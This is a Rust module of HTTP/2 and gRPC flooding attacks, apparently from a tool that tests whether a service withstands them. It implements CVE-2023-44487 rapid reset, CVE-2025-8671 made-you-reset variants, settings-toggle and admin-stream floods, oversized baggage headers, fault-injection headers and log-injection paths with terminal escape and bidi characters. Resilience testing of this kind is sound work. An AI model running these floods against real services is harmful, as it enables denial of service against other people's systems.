//! Attackers that send much.

use std::time::Duration;

use tokio::time::sleep;

use crate::{
    admin::{REFLECTION, WATCH},
    attack::Aim,
    frames::{Calls, INITIAL_WINDOW_SIZE, headers, headers_with, message, priority, settings, stream, window_update},
};

/// How many calls are sent at once.
const BATCH: u32 = 500;

/// CVE-2023-44487, on four connections. The service slows them down.
pub(super) async fn rapid_reset(aim: &Aim) {
    let connection = async || {
        let mut attacker = aim.connect(&[]).await;
        let mut calls = Calls::reset_at_once(aim.target, BATCH);
        while attacker.send(calls.bytes()).await {
            aim.add_sent(BATCH as usize);
            calls.advance();
        }
        aim.note_closed(attacker).await;
    };
    tokio::join!(connection(), connection(), connection(), connection());
}

/// Sends the bytes of this many calls on one connection after the other, each until the service closes it.
async fn flood(aim: &Aim, calls: u32, call: impl Fn(u32) -> Vec<u8>) {
    let bytes: Vec<_> = (0..calls).flat_map(|index| call(stream(index))).collect();
    loop {
        let mut attacker = aim.connect(&[]).await;
        attacker.send(&bytes).await;
        aim.add_sent(calls as usize);
        aim.note_closed(attacker).await;
    }
}

/// CVE-2025-8671: the server is made to reset streams itself, by a window that becomes too large.
pub(super) async fn made_you_reset_by_window(aim: &Aim) {
    let path = aim.target.path();
    flood(aim, 5_000, |stream| [headers(stream, path), window_update(stream, (1 << 31) - 1)].concat()).await;
}

/// The same, by a stream that depends on itself.
pub(super) async fn made_you_reset_by_priority(aim: &Aim) {
    let path = aim.target.path();
    flood(aim, 5_000, |stream| [headers(stream, path), priority(stream, stream)].concat()).await;
}

/// Each frame of 15 bytes changes the windows of all streams of the connection.
pub(super) async fn settings_that_toggle_windows(aim: &Aim) {
    const OPEN: u32 = 1_000;
    let mut attacker = aim.connect(&[(INITIAL_WINDOW_SIZE, 0)]).await;
    let open: Vec<_> = (0..OPEN).flat_map(|index| headers(stream(index), aim.target.path())).collect();
    let toggle = [settings(&[(INITIAL_WINDOW_SIZE, 1)]), settings(&[(INITIAL_WINDOW_SIZE, 0)])].concat().repeat(50);
    if attacker.send(&open).await {
        while attacker.send(&toggle).await {
            aim.add_sent(100);
        }
    }
    aim.note_closed(attacker).await;
}

/// Many more streams of reflection and health than there may be.
pub(super) async fn admin_streams(aim: &Aim) {
    let path = |index: u32| if index.is_multiple_of(2) { REFLECTION } else { WATCH };
    flood(aim, 5_000, |stream| headers(stream, path(stream / 2))).await;
}

/// The same at 100 KB in a second, as fast as somebody far away may be.
pub(super) async fn admin_streams_slowly(aim: &Aim) {
    const CALLS: u32 = 100;
    let path = |index: u32| if index.is_multiple_of(2) { REFLECTION } else { WATCH };
    let mut attacker = aim.connect(&[]).await;
    for batch in 0.. {
        let calls: Vec<_> =
            (CALLS * batch..CALLS * (batch + 1)).flat_map(|index| headers(stream(index), path(index))).collect();
        if !attacker.send(&calls).await {
            break;
        }
        aim.add_sent(CALLS as usize);
        sleep(Duration::from_secs(1) * u32::try_from(calls.len()).unwrap() / 100_000).await;
    }
    aim.note_closed(attacker).await;
}

/// Sends this many of these calls each tenth of a second.
async fn send_steadily(aim: &Aim, calls: u32, call: impl Fn(u32) -> Vec<u8>) {
    let mut attacker = aim.connect(&[]).await;
    for batch in 0.. {
        let bytes: Vec<_> = (0..calls).flat_map(|index| call(stream(calls * batch + index))).collect();
        if !attacker.send(&bytes).await {
            break;
        }
        aim.add_sent(calls as usize);
        attacker.ended((calls * (batch + 1)) as usize).await;
        sleep(Duration::from_millis(100)).await;
    }
    aim.note_closed(attacker).await;
}

/// The gateway adds its own headers to those that it passes on, which then exceed a backend's limit.
pub(super) async fn large_baggage(aim: &Aim) {
    let baggage = [8_000, 8_300, 15_500].map(|bytes| format!("tenant={}", "7".repeat(bytes)));
    send_steadily(aim, 100, |stream| {
        let headers = headers_with(stream, aim.target.path(), &[("baggage", &baggage[stream as usize / 2 % 3])]);
        [headers, message(stream, aim.target.message())].concat()
    })
    .await;
}

/// Faults that a caller asks for are its own.
pub(super) async fn injected_faults(aim: &Aim) {
    send_steadily(aim, 20, |stream| {
        let headers = headers_with(stream, aim.target.path(), &[("baggage", "*.error-rate=1")]);
        [headers, message(stream, aim.target.message())].concat()
    })
    .await;
}

/// The names of methods that do not exist are for the log.
pub(super) async fn text_for_the_log(aim: &Aim) {
    let service = aim.target.path().rsplit_once('/').unwrap().0;
    let path = format!("{service}/\u{9b}2J\u{202e}\u{200b}{}", "a".repeat(12_000));
    send_steadily(aim, 20, |stream| [headers(stream, &path), message(stream, b"")].concat()).await;
}
